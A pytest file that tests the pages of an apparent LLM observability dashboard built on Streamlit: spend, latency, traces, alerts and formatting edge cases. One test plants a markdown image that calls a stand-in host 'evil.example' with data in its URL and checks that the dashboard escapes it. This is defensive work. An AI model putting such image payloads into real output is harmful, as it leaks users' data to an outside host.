"""Every page renders on a seeded store and shows the seeded figures (Streamlit AppTest)."""

from __future__ import annotations

import base64
import itertools
import json
import random
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import numpy as np
import pandas as pd
import pytest
from markdown_it import MarkdownIt
from sqlalchemy import create_engine, insert
from streamlit.dataframe_util import convert_arrow_bytes_to_pandas_df
from streamlit.testing.v1 import AppTest

import glassline.dashboard.app as app_module
from examples.demo import dashboard_link
from glassline.collector.alerts.models import AlertState
from glassline.dashboard import spans, tabular
from glassline.dashboard.env import ENV_ALERTS_CONFIG, ENV_DB_URL, ENV_PASSWORD
from glassline.dashboard.markdown import literal
from glassline.dashboard.window import calendar_starts
from glassline.pricing import format_usd
from glassline.semconv import attributes as attrs

from .conftest import seed_store
from .seed import NS, Traffic, rag_trace
from .test_queries import _add_ops_rows

APP = app_module.__file__
PAGES = [
    "overview",
    "changes",
    "latency",
    "spend",
    "quality",
    "traces",
    "people",
    "trace",
    "alerts",
]


def _open(
    url: str, monkeypatch: pytest.MonkeyPatch, page: str = "overview", **params: str
) -> AppTest:
    monkeypatch.setenv(ENV_DB_URL, url)
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params.update(params)
    at.run()
    if page != "overview":
        at.switch_page(f"views/{page}.py").run()
    assert not at.exception, at.exception
    return at


def _metrics(at: AppTest) -> dict[str, str]:
    return {m.label: m.value for m in at.metric}


def _text(at: AppTest) -> str:
    parts = [e.value for kind in ("markdown", "caption", "info", "error", "warning", "code",
                                  "subheader", "title", "header") for e in at.get(kind)]  # fmt: skip
    return "\n".join(str(p) for p in parts)


@pytest.mark.parametrize("page", PAGES)
def test_every_page_renders_without_exception(sqlite_url, monkeypatch, traffic: Traffic, page):
    at = _open(sqlite_url, monkeypatch, page, trace=traffic.chat_trace_id)
    assert at.title[0].value.startswith(
        {"overview": "Overview", "changes": "What changed", "people": "Sessions & users", "latency": "Latency", "spend": "Spend", "quality": "Quality", "traces": "Traces",
         "trace": "Trace drilldown", "alerts": "Alerts"}[page]
    )  # fmt: skip


def test_overview_shows_the_seeded_spend_and_requests(
    sqlite_url, monkeypatch, traffic: Traffic, now_s: int
):
    # The window the app picks at now_s, pinned: the seeded hour may straddle UTC midnight.
    end = (now_s // 60 + 1) * 60
    metrics = _metrics(_open(sqlite_url, monkeypatch, end=str(end)))
    day_start, _ = calendar_starts(end - 1)
    today = sum(r.cost_usd or 0.0 for r in traffic.records if r.start_ns >= day_start * NS)
    assert metrics["Spend"] == format_usd(traffic.cost())
    assert metrics["Spend today (UTC)"] == format_usd(today)
    assert metrics["Requests"] == f"{len(traffic.roots()):,}"
    assert metrics["Firing alerts"] == "0"


@pytest.mark.parametrize("tenant", ["acme", "globex"])
def test_tenant_in_the_url_filters_pages_and_survives_page_switches(
    sqlite_url, monkeypatch, traffic: Traffic, tenant: str
):
    at = _open(sqlite_url, monkeypatch, tenant=tenant, range="6h")
    assert _metrics(at)["Spend"] == format_usd(traffic.cost(tenant))
    assert at.sidebar.selectbox(key="tenant").value == tenant
    assert at.sidebar.selectbox(key="range").value == "6h"
    at.switch_page("views/spend.py").run()
    assert _metrics(at)["Total spend"] == format_usd(traffic.cost(tenant))
    at.switch_page("views/traces.py").run()
    assert set(at.dataframe[0].value["tenant"]) == {tenant}


def test_latency_page_lists_every_stage_with_percentiles(sqlite_url, monkeypatch, traffic):
    at = _open(sqlite_url, monkeypatch, "latency")
    table = at.dataframe[0].value
    assert set(table["stage"]) == {r.stage for r in traffic.records if r.kind == "stage"}
    assert (table["p95"] > 0).all()
    # Nothing before the seeded hour: the previous period's p95 reads a dash, never "None".
    assert set(table["p95_before"]) == {tabular.MISSING}
    assert set(table["p95 change"]) == {"new"}
    assert "Time to first token" in _text(at)


def test_spend_page_shows_totals_savings_and_fallbacks(sqlite_url, monkeypatch, traffic: Traffic):
    at = _open(sqlite_url, monkeypatch, "spend")
    metrics = _metrics(at)
    assert metrics["Total spend"] == format_usd(traffic.cost())
    assert metrics["Fallbacks"] == str(sum(r.fallback for r in traffic.records))
    by_model = at.dataframe[0].value.set_index("model")
    assert by_model.loc["gpt-4o-mini", "cost_usd"] == pytest.approx(
        sum(r.cost_usd or 0 for r in traffic.records if r.model == "gpt-4o-mini")
    )
    fallback_routes = at.dataframe[-1].value
    assert list(fallback_routes["route"]) == [r.route for r in traffic.records if r.fallback]


def test_traces_page_lists_traces_with_links_and_filters_by_status(
    sqlite_url, monkeypatch, traffic: Traffic
):
    at = _open(sqlite_url, monkeypatch, "traces")
    rows = at.dataframe[0].value
    assert set(rows["root_name"]) == {"rag_pipeline"}
    assert len(rows) == len(traffic.roots())
    assert all(link.startswith("trace?") and "trace=" in link for link in rows["open"])
    errors = _open(sqlite_url, monkeypatch, "traces", status="error").dataframe[0].value
    assert list(errors["trace_id"]) == [traffic.error_trace_id]


def test_a_trace_whose_root_has_not_come_says_so_where_its_request_is_named(
    tmp_path, monkeypatch, now_s
):
    # The Traces page read "None" for it, as for any missing text (pandas 3 reads text as str:
    # the tables' dash was skipped).
    rng = random.Random(11)
    whole = rag_trace(rng, "acme", (now_s - 600) * NS, user="user-1")
    rootless = [s for s in rag_trace(rng, "acme", (now_s - 300) * NS, user="user-1", fail=True)
                if not s.is_root]  # fmt: skip
    sessionless = rag_trace(rng, "acme", (now_s - 200) * NS, user="user-2")
    for span in sessionless:
        span.session_id = None
    url = f"sqlite:///{tmp_path / 'rootless.db'}"
    seed_store(url, Traffic(records=[*whole, *rootless, *sessionless]))
    rows = _open(url, monkeypatch, "traces").dataframe[0].value.set_index("trace_id")
    assert rows.loc[rootless[0].trace_id, "root_name"] == spans.NO_ROOT_YET
    assert rows.loc[whole[0].trace_id, "root_name"] == "rag_pipeline"
    assert rows.loc[sessionless[0].trace_id, "session_id"] == tabular.MISSING  # any text column
    turns = (
        _open(url, monkeypatch, "people", session="session-user-1", session_tenant="acme")
        .dataframe[-1]
        .value
    )
    assert set(turns["root_name"]) == {spans.NO_ROOT_YET, "rag_pipeline"}
    trace = _open(url, monkeypatch, "trace", trace=rootless[0].trace_id)
    assert trace.subheader[0].value == spans.NO_ROOT_YET


def test_trace_page_shows_waterfall_error_and_chat_messages(sqlite_url, monkeypatch, traffic):
    at = _open(sqlite_url, monkeypatch, "trace", trace=traffic.error_trace_id)
    text = _text(at)
    assert at.subheader[0].value == literal("rag_pipeline")  # as sent: markdown escaped
    assert "RateLimitError" in at.error[0].value and "quota exceeded" in at.error[0].value
    roles = [m.name for m in at.get("chat_message")]
    assert roles == ["user", "assistant"]
    assert literal("What is our refund policy?") in text and "Refunds are accepted" in text
    assert f"Redacted at ingest: {literal('1 EMAIL_ADDRESS')}" in text
    expected = sum(r.cost_usd or 0 for r in traffic.records if r.trace_id == traffic.error_trace_id)
    assert _metrics(at)["Cost"] == format_usd(expected)
    assert f"trace={traffic.error_trace_id}" in at.code[-1].value


def test_telemetry_on_the_trace_sessions_and_changes_pages_is_shown_as_sent(tmp_path, monkeypatch):
    # Markdown images in a span name, an error or a completion made the browser fetch their
    # URLs when the trace was opened (Chromium, from outside: 7 fetches on one trace).
    image = "![x](https://evil.example/p.png?d=order-77)"
    spans = rag_trace(random.Random(3), "acme", int(time.time()) * NS, user=f"u{image}", fail=True)
    root, llm = spans[0], spans[-1]
    root.name, llm.name, llm.session_id = f"rag {image}", f"chat {image}", f"s{image}"
    llm.stage = f"gen{image}"
    llm.events[0].attributes["exception.message"] = f"quota {image}"
    answer = [{"role": "assistant", "parts": [{"type": "text", "content": f"Sure! {image}"}]}]
    llm.attributes[attrs.GEN_AI_OUTPUT_MESSAGES] = json.dumps(answer)
    url = f"sqlite:///{tmp_path / 'hostile.db'}"
    seed_store(url, Traffic(records=spans))
    trace = _open(url, monkeypatch, "trace", trace=root.trace_id)
    people = _open(url, monkeypatch, "people", user=f"u{image}", session=f"s{image}")
    shown = [
        e.value
        for at in (trace, people)
        for kind in ("markdown", "caption", "error", "subheader")
        for e in at.get(kind)
    ]
    with_image = [v for v in shown if "evil" in v]
    assert len(with_image) >= 6  # the root and span names, the user, the error, the completion
    for value in with_image:
        assert "image" not in {
            t.type for block in MarkdownIt().parse(value) for t in block.children or []
        }, value
        assert literal(image) in value
    # A metric's value is markdown too: the largest contribution to a change is a stage's name.
    changes = _open(url, monkeypatch, "changes", by="stage")
    assert _metrics(changes)["Largest contribution (stage)"] == literal(f"gen{image}")


def test_a_long_trace_draws_its_first_spans_and_every_failure(tmp_path, monkeypatch):
    # A batch job under one workflow: 50,000 spans took 233 s and 450 MB to draw.
    from glassline.collector.records import SpanRecord
    from glassline.dashboard.queries import SPANS_SHOWN

    start = int(time.time()) * NS
    [root] = rag_trace(random.Random(5), "acme", start)[:1]
    calls = [
        SpanRecord(tenant="acme", trace_id=root.trace_id, span_id=f"{i + 1:04x}{'c' * 12}",
                   parent_span_id=root.span_id, name="chat gpt-4o-mini", kind="llm",
                   start_ns=start + (i + 1) * 1_000, end_ns=start + (i + 1) * 1_000 + 500,
                   status="error" if i in (3, SPANS_SHOWN + 40) else "ok")
        for i in range(SPANS_SHOWN + 100)
    ]  # fmt: skip
    url = f"sqlite:///{tmp_path / 'long.db'}"
    seed_store(url, Traffic(records=[root, *calls]))
    at = _open(url, monkeypatch, "trace", trace=root.trace_id)
    [span_picker] = [box for box in at.selectbox if box.label == "Span"]
    late_failure = f"·{SPANS_SHOWN + 41:04x}"  # labels end with the id's first 4 digits
    assert len(span_picker.options) == SPANS_SHOWN + 1  # the first spans and the late failure
    assert any(option.endswith(late_failure) for option in span_picker.options)
    assert f"first {SPANS_SHOWN:,} of its {SPANS_SHOWN + 101:,} spans" in _text(at)


def test_a_table_draws_its_first_rows_and_says_the_csv_has_them_all(tmp_path, monkeypatch):
    # What changed by user in an app of 100,000 users a day failed outright: a Styler takes
    # at most 262,144 cells. Seeded: more users than a table draws, one call each.
    from glassline.collector.records import SpanRecord

    users = tabular.MAX_TABLE_ROWS + 200
    start = (int(time.time()) - 3000) * NS
    calls = [
        SpanRecord(tenant="acme", trace_id=f"{i + 1:032x}", span_id=f"{i + 1:016x}",
                   name="chat gpt-4o-mini", kind="llm", model="gpt-4o-mini", user_id=f"u{i}",
                   start_ns=start + i * 2 * NS, end_ns=start + i * 2 * NS + NS // 2,
                   input_tokens=100, output_tokens=10, cost_usd=0.001 * (1 + i % 5))
        for i in range(users)
    ]  # fmt: skip
    url = f"sqlite:///{tmp_path / 'users.db'}"
    seed_store(url, Traffic(records=calls))
    at = _open(url, monkeypatch, "changes", by="user")
    assert not at.exception
    [table] = at.dataframe
    assert len(table.value) == tabular.MAX_TABLE_ROWS
    assert f"The first {tabular.MAX_TABLE_ROWS:,} of {users:,} rows" in _text(at)


@pytest.mark.parametrize("value", ["inf", "1e400", "-inf", "nan", "-5", "junk"])
def test_a_number_filter_in_the_url_that_is_no_number_opens_the_traces_page_unfiltered(
    sqlite_url, monkeypatch, traffic, value
):
    # ?min_cost=inf put Streamlit's "`value` (inf) must be <= 1.797e+308" on the page.
    at = _open(sqlite_url, monkeypatch, "traces", min_cost=value, min_ms=value)
    filters = {n.label: n.value for n in at.number_input}
    assert filters == {"Min cost (USD)": 0.0, "Min duration (ms)": 0.0}


def test_trace_page_explains_an_unknown_trace(sqlite_url, monkeypatch):
    at = _open(sqlite_url, monkeypatch, "trace", trace="f" * 32)
    assert "No trace" in at.warning[0].value


def test_alerts_page_shows_firing_rules_and_sampling(tmp_path, monkeypatch, traffic, now_s):
    url = f"sqlite:///{tmp_path / 'ops.db'}"
    seed_store(url, traffic)
    _add_ops_rows(url, now_s)
    at = _open(url, monkeypatch, "alerts")
    metrics = _metrics(at)
    assert metrics["Firing now"] == "1"
    assert metrics["Traces kept"] == "5" and metrics["Traces dropped"] == "40"
    states = at.dataframe[0].value
    assert "monthly-budget" in set(states["rule"])
    # A firing alert has not resolved: its "resolved at" reads a dash, never "None".
    assert set(states[states["state"] == "firing"]["resolved_at"]) == {tabular.MISSING}
    assert _metrics(_open(url, monkeypatch))["Firing alerts"] == "1"


def test_alerts_page_without_states_says_what_an_empty_table_means(
    sqlite_url, monkeypatch, traffic
):
    """Rules that all hold leave no state row: the page must not tell a user who has a rule
    file to add one."""
    text = _text(_open(sqlite_url, monkeypatch, "alerts"))
    assert "No alert has been pending or firing yet" in text
    assert "add rules" not in text


def test_alerts_page_counts_every_instance_and_lists_the_most_pressing(
    tmp_path, monkeypatch, traffic, now_s
):
    # A per-user budget keeps a state for each user that went over it: 100,000 took 4.6 s of
    # every view of this page, all of them read to count three figures and draw 1,000 rows.
    url = f"sqlite:///{tmp_path / 'ops.db'}"
    seed_store(url, traffic)
    _add_ops_rows(url, now_s)
    writer = create_engine(url)
    with writer.begin() as conn:
        conn.execute(insert(AlertState), [
            dict(rule="per-user", tenant="acme", key=f"user=u{n}", state="resolved",
                 severity="critical", value=1.5, threshold=1.0, updated_at=now_s - 5_000 + n)
            for n in range(1_200)
        ])  # fmt: skip
    writer.dispose()
    at = _open(url, monkeypatch, "alerts")
    metrics = _metrics(at)
    assert (metrics["Firing now"], metrics["Pending"], metrics["Rules with state"]) == (
        "1",
        "1",
        "3",
    )
    states = at.dataframe[0].value
    assert len(states) == tabular.MAX_TABLE_ROWS
    assert list(states["state"][:2]) == ["firing", "pending"]
    assert list(states["key"][2:4]) == ["user=u1199", "user=u1198"]  # then the latest changes
    assert f"The 1,000 most pressing of {1_200 + 3:,} alert instances" in _text(at)


def test_alerts_page_shows_values_in_each_rules_unit(tmp_path, monkeypatch, traffic, now_s):
    # `make demo`'s hourly budget read 0.5386, not dollars.
    url = f"sqlite:///{tmp_path / 'ops.db'}"
    seed_store(url, traffic)
    _add_ops_rows(url, now_s)
    rules = tmp_path / "rules.yaml"
    rules.write_text("""
rules:
  - {name: monthly-budget, kind: budget, window: calendar_month, limit_usd: 800}
  - {name: p95-generate, kind: latency, threshold_ms: 2000}
""")
    monkeypatch.setenv(ENV_ALERTS_CONFIG, str(rules))
    at = _open(url, monkeypatch, "alerts")
    states = at.dataframe[0].value.set_index(["rule", "tenant"])[["value", "threshold"]]
    assert list(states.loc[("monthly-budget", "acme")]) == ["$812.50", "$800.00"]
    assert list(states.loc[("monthly-budget", "globex")]) == ["$90.00", "$100.00"]
    assert list(states.loc[("p95-generate", "acme")]) == ["900 ms", "2,000 ms"]
    history = at.dataframe[1].value
    assert history[["value", "threshold"]].values.tolist() == [["$812.50", "$800.00"]]


def test_the_overviews_firing_alerts_read_as_the_alerts_page_does(
    tmp_path, monkeypatch, traffic, now_s
):
    # `make demo`'s Overview read a latency of 854.208 where the Alerts page read 854 ms.
    url = f"sqlite:///{tmp_path / 'ops.db'}"
    seed_store(url, traffic)
    _add_ops_rows(url, now_s)
    rules = tmp_path / "rules.yaml"
    rules.write_text("rules: [{name: monthly-budget, kind: budget, window: 24h, limit_usd: 800}]")
    monkeypatch.setenv(ENV_ALERTS_CONFIG, str(rules))
    at = _open(url, monkeypatch)
    [firing] = [d.value for d in at.dataframe if "severity" in d.value.columns]
    assert firing[["rule", "value", "threshold"]].values.tolist() == [
        ["monthly-budget", "$812.50", "$800.00"]
    ]
    assert _metrics(at)["Firing alerts"] == "1"


def test_empty_store_tells_the_user_how_to_send_data(tmp_path: Path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'empty.db'}"
    seed_store(url, Traffic())
    at = _open(url, monkeypatch)
    assert "Send some traces" in at.info[0].value
    assert "glassline.instrumentation" in at.code[0].value


@pytest.mark.parametrize(
    "url",
    [
        "postgresql+psycopg://postgres@127.0.0.1:1/nothing",
        "sqlite:////nonexistent/dir/x.db",
        "mysql://app@db/glassline",  # a ModuleNotFoundError's traceback, before
        "not a url",
    ],
)
def test_unreachable_database_gives_a_message_not_a_stack_trace(url, monkeypatch):
    at = _open(url, monkeypatch)
    assert "cannot read its database" in at.error[0].value
    assert "Traceback" not in at.error[0].value


def test_a_link_to_a_time_past_2262_opens_the_live_page(sqlite_url, monkeypatch, traffic):
    # Such an end overflowed every query of the page (a traceback in place of the page).
    at = _open(sqlite_url, monkeypatch, start="0", end="99999999999")
    assert at.selectbox(key="range").value == "24h"
    assert not [c.value for c in at.sidebar.caption if "Pinned" in c.value]  # live, not pinned


@pytest.mark.postgres
@pytest.mark.parametrize("page", ["overview", "traces", "people"])
def test_a_link_holding_a_nul_opens_on_postgresql(pg_url, monkeypatch, page):
    # PostgreSQL keeps a NUL in no text: every query of the page failed (a traceback).
    nul = {key: "ac\x00me" for key in ("tenant", "version", "user", "session", "q", "model")}
    at = _open(pg_url, monkeypatch, page, **nul)
    assert at.selectbox(key="tenant").value == "ac\ufffdme"


def test_shared_password_mode_requires_the_password(sqlite_url, monkeypatch):
    monkeypatch.setenv(ENV_PASSWORD, "s3cret-team-pass")
    at = _open(sqlite_url, monkeypatch)
    assert not at.metric and at.text_input[0].label == "Password"
    at.text_input[0].input("wrong")
    at.button[0].click().run()
    assert "Wrong password" in at.error[0].value and not at.metric
    at.text_input[0].input("s3cret-team-pass")
    at.button[0].click().run()
    assert not at.exception
    assert at.title[0].value == "Overview" and at.metric


def test_auto_refresh_from_the_url_turns_the_toggle_on(sqlite_url, monkeypatch, traffic):
    at = _open(sqlite_url, monkeypatch, refresh="true")
    assert at.sidebar.toggle(key="refresh").value is True
    assert _metrics(at)["Spend"] == format_usd(traffic.cost())


def test_counts_in_tables_read_with_thousands_separators_as_on_the_tiles(sqlite_url, monkeypatch):
    # make demo: the Spend page's table read 173622 input tokens beside the tile's 173,622.
    at = _open(sqlite_url, monkeypatch, "spend")
    columns = json.loads(at.dataframe[0].proto.columns)
    assert columns["input_tokens"]["type_config"]["format"] == "%,d"
    shown, _ = tabular._with_missing_shown(  # a gap makes the column text: the same digits
        pd.DataFrame({"n": [173622.0, None]}), {"n": tabular.count_column("n")}
    )
    assert list(shown["n"]) == ["173,622", tabular.MISSING]


def test_what_changed_titles_keep_units_and_acronyms(sqlite_url, monkeypatch):
    at = _open(sqlite_url, monkeypatch, "changes")
    titles = [json.loads(c.proto.spec)["layout"]["title"]["text"] for c in at.get("plotly_chart")]
    assert "Contribution to the change in spend (USD)" in titles
    assert "Spend (USD) over time by tenant" in titles


def test_what_changed_names_the_largest_contribution_in_its_value_alone(sqlite_url, monkeypatch):
    # "Prompt version v2-sections" was cut to "Prompt version…" in make demo's tile.
    at = _open(sqlite_url, monkeypatch, "changes", by="prompt_version", metric="p95")
    tile = next(m for m in at.metric if m.label.startswith("Largest contribution"))
    assert tile.label == "Largest contribution (prompt version)"
    assert not tile.value.startswith("Prompt version")
    # A p95 is no sum of the rows: the tiles read it over all of them, not n/a.
    after = next(m.value for m in at.metric if m.label.startswith("After"))
    assert after != "n/a"


def test_what_changed_labels_before_from_where_the_data_begins(
    sqlite_url, monkeypatch, traffic: Traffic, now_s: int
):
    # The seeded hour in a day's range: "Before" began 24 hours back, where there is no data.
    end = (now_s // 60 + 1) * 60
    at = _open(sqlite_url, monkeypatch, "changes", end=str(end), range="24h")
    first = min(r.start_ns for r in traffic.records) // NS // 60 * 60
    [before] = [m.label for m in at.metric if m.label.startswith("Before")]
    assert before.startswith(f"Before ({datetime.fromtimestamp(first, UTC):%m-%d %H:%M} to ")


def test_overview_top_charts_list_only_what_cost_something(sqlite_url, monkeypatch, traffic):
    at = _open(sqlite_url, monkeypatch)
    specs = [json.loads(c.proto.spec) for c in at.get("plotly_chart")]
    bars = {s["layout"]["title"]["text"]: s["data"][0]["y"] for s in specs}
    paid = [r for r in traffic.records if (r.cost_usd or 0) > 0]
    assert set(bars["Top stages by spend (USD)"]) == {r.stage for r in paid}  # no retrieval
    assert set(bars["Top models by spend (USD)"]) == {r.model for r in paid}


def _charts_by_title(at: AppTest) -> dict[str, dict]:
    """The page's Plotly specs by their title."""
    return {(s := json.loads(c.proto.spec))["layout"]["title"]["text"]: s
            for c in at.get("plotly_chart")}  # fmt: skip


def _seed_rag_traces(tmp_path: Path, seed: int, starts_s: list[int]) -> tuple[str, Traffic]:
    """A store of acme's RAG traces, one starting at each of ``starts_s`` (Unix seconds)."""
    rng = random.Random(seed)
    traffic = Traffic()
    for start in starts_s:
        traffic.records.extend(rag_trace(rng, "acme", start * NS))
    url = f"sqlite:///{tmp_path / 'rag.db'}"
    seed_store(url, traffic)
    return url, traffic


def test_the_first_minutes_of_a_new_install_chart_their_one_bucket_readably(
    tmp_path: Path, monkeypatch, now_s: int
):
    # `make demo` a minute in: one 15-minute bucket per chart. The cost per request ($0.0001)
    # was drawn at "0" on an axis from -1 to 1 and the requests between n - 1 and n + 1.
    end = (now_s // 900 + 1) * 900  # pinned: every trace in the window's last bucket
    url, traffic = _seed_rag_traces(tmp_path, 3, [end - 600 + i * 20 for i in range(6)])

    def y_range(page: str, title: str) -> tuple[float, float]:
        specs = _charts_by_title(_open(url, monkeypatch, page, end=str(end)))
        low, high = specs[title]["layout"]["yaxis"]["range"]
        return low, high

    per_request = traffic.cost() / len(traffic.roots())
    assert y_range("spend", "Cost per request (USD)") == pytest.approx((0, per_request * 1.25))
    assert y_range("overview", "Requests") == (0, 6 * 1.25)


def test_a_bucket_the_range_holds_in_part_is_drawn_apart(tmp_path: Path, monkeypatch, now_s: int):
    # The range ends seven minutes into a quarter of an hour: that quarter's sums are partial
    # (at `make demo`'s 22:15 the requests line plunged from 2,500 to 200).
    quarter = now_s // 900 * 900 - 900
    end = quarter + 420
    url, _ = _seed_rag_traces(tmp_path, 5, [end - 1200 + i * 150 for i in range(8)])

    def specs(page: str) -> dict[str, dict]:
        return _charts_by_title(_open(url, monkeypatch, page, end=str(end)))

    requests = specs("overview")["Requests"]
    dotted = [t for t in requests["data"] if t.get("line", {}).get("dash") == "dot"]
    assert [pd.Timestamp(x).timestamp() for x in dotted[0]["x"]] == [quarter - 900, quarter]
    daily = specs("spend")["Spend per day, UTC (USD)"]["data"][0]
    assert daily["marker"]["opacity"][-1] == 0.4  # today, seven minutes of its last quarter


def _shown(table: Any) -> pd.DataFrame:
    """A table's cells as the user reads them (the Styler's text where the page set one)."""
    styler = table.proto.arrow_data.styler
    if not styler.display_values:
        return table.value
    return convert_arrow_bytes_to_pandas_df(styler.display_values)


def test_a_spend_table_reads_dollars_as_the_tiles_do_and_sorts_by_the_number(
    sqlite_url, monkeypatch
):
    # The tables' "$%.6f" read $0.076406 beside a tile's $0.0764, and $1234.500000.
    table = _open(sqlite_url, monkeypatch, "spend").dataframe[0]
    raw = table.value.set_index("model")["cost_usd"]
    shown = _shown(table).set_index("model")["cost_usd"]
    assert raw.dtype.kind == "f"
    assert dict(shown) == {model: format_usd(cost) for model, cost in raw.items()}


def test_the_link_make_demo_prints_opens_the_last_hour_by_the_minute(sqlite_url, monkeypatch):
    # The demo's store is minutes old: the default 24 hours in 15-minute buckets drew its
    # incident, and the minutes before it, as one or two points per chart.
    link = urlsplit(dashboard_link("127.0.0.1", 8501))
    assert (link.scheme, link.netloc, link.path) == ("http", "localhost:8501", "/")
    at = _open(sqlite_url, monkeypatch, **dict(parse_qsl(link.query)))
    assert at.sidebar.selectbox(key="range").value == "1h"
    times = [pd.Timestamp(x).timestamp() for x in _charts_by_title(at)["Requests"]["data"][0]["x"]]
    assert min(b - a for a, b in itertools.pairwise(times)) == 60


def _values(trace: dict[str, Any]) -> list[float]:
    """A trace's values (a horizontal bar's x, else y); Plotly sends numbers as typed arrays."""
    data = trace["x"] if trace.get("orientation") == "h" else trace["y"]
    if isinstance(data, dict):
        return np.frombuffer(base64.b64decode(data["bdata"]), dtype=data["dtype"]).tolist()
    return list(data)


@pytest.mark.parametrize("page", ["overview", "spend", "people"])
def test_every_chart_in_dollars_hovers_as_the_tiles_read(sqlite_url, monkeypatch, page):
    # Plotly's own hover read 0.0764063 under a tile's $0.0764.
    specs = _charts_by_title(_open(sqlite_url, monkeypatch, page))
    dollars = {title: spec for title, spec in specs.items() if "(USD)" in title}
    assert dollars
    for title, spec in dollars.items():
        for trace in spec["data"]:
            assert trace["hovertext"] == [format_usd(v) for v in _values(trace)], title
